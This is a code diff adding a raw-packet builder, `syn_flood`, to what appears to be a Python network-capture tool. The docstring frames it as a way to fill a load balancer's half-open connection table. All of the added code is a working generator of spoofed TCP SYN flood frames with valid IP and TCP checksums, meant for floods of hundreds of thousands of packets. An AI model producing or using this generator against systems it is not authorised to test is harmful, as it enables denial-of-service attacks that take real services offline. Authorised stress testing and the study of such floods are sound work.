@@ -255,3 +255,36 @@ class Capture:
         self.kernel_drops = struct.unpack("II", stats)[1]
         self.sock.close()
         return False
+
+
+def _checksum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+
+def syn_flood(src_net, dst, dport, src_mac, dst_mac, count, first_port=1024) -> list[bytes]:
+    """`count` TCP SYNs to dst:dport, each from a different (address of the IPv4
+    network src_net, port) pair, checksums valid: what fills a load balancer's
+    table of half-open connections. Plain struct packing (no scapy): a flood is
+    100,000s of frames."""
+    net = ipaddress.ip_network(src_net)
+    hosts = [h.packed for h in net.hosts()]
+    ports = 65536 - first_port
+    if count > len(hosts) * ports:
+        raise ValueError(f"{src_net} has fewer than {count} (address, port) pairs from port {first_port}")
+    l2 = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
+    daddr = ipaddress.ip_address(dst).packed
+    frames = []
+    for i in range(count):
+        saddr, sport = hosts[i % len(hosts)], first_port + i // len(hosts)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0x4000, 64, 6, 0, saddr, daddr)
+        ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
+        tcp = struct.pack("!HHIIBBHHH", sport, dport, 0x10000 * i & 0xFFFFFFFF, 0, 5 << 4, 0x02, 64240, 0, 0)
+        pseudo = saddr + daddr + struct.pack("!BBH", 0, 6, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
+        frames.append(l2 + ip + tcp)
+    return frames
